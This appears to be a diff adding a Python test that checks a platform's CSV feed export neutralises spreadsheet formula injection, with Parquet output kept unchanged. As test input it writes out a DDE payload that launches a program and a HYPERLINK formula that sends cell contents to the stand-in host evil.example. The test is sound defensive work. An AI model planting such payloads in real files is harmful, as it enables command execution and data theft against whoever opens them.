@@ -1,5 +1,6 @@
 """Activation on the demo's December: feeds, holdouts, consent, erasure and lift, end to end."""
 
+import csv as csv_module
 import hashlib
 import os
 
@@ -161,6 +162,41 @@ def test_a_file_is_never_half_written(tmp_path, monkeypatch):
         write_atomic(pl.DataFrame({"profile_id": ["c"]}), path)
     assert pl.read_parquet(path).equals(old)
     assert [p.name for p in tmp_path.iterdir()] == ["feed.parquet"]
+
+
+def test_csv_feeds_are_safe_to_open_in_a_spreadsheet(tmp_path):
+    """A text cell a spreadsheet would run as a formula is prefixed with `'` in the CSV feed
+    (OWASP); numbers stay numbers, hashes and ordinary text stay as they are, and the Parquet
+    feed keeps every value."""
+    from seg_platform.activation.publish import publish_files
+
+    dde = "=cmd|' /C calc'!A0"
+    crafted = [dde, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+    n = len(crafted) + 2
+    frame = pl.DataFrame(
+        {
+            "profile_id": [f"p{i}" for i in range(n)],
+            "segment_id": [-1, -2, 3, 4, 5, 6, 7, 8],
+            "segment_name": [*crafted, "Loyalists", None],
+            "email": ['=HYPERLINK("http://evil.example/?"&A1)@x.org', *["a@b.org"] * (n - 1)],
+            "email_sha256": [hashlib.sha256(f"{i}".encode()).hexdigest() for i in range(n)],
+            "amount": [-1.5, *[2.0] * (n - 1)],
+        }
+    )
+    written = publish_files(tmp_path, "crm", "2025-12", {"members": frame})
+    assert {row[1] for row in written} == {"crm/crm_2025-12_members.csv",
+                                           "crm/crm_2025-12_members.parquet"}  # fmt: skip
+    csv = pl.read_csv(tmp_path / "crm" / "crm_2025-12_members.csv", infer_schema=False)
+    assert csv["segment_name"].to_list() == [*(f"'{v}" for v in crafted), "Loyalists", None]
+    assert csv["email"][0] == "'" + frame["email"][0] and csv["email"][1] == "a@b.org"
+    assert csv["email_sha256"].to_list() == frame["email_sha256"].to_list()
+    assert csv["segment_id"].to_list()[:2] == ["-1", "-2"]  # numbers are not text cells
+    assert csv["amount"][0] == "-1.5"
+    with open(tmp_path / "crm" / "crm_2025-12_members.csv", newline="") as f:
+        cells = [cell for row in csv_module.reader(f) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    parquet = pl.read_parquet(tmp_path / "crm" / "crm_2025-12_members.parquet")
+    assert parquet.equals(frame)
 
 
 def test_opting_out_of_email_leaves_only_the_email_feed(demo_copy):
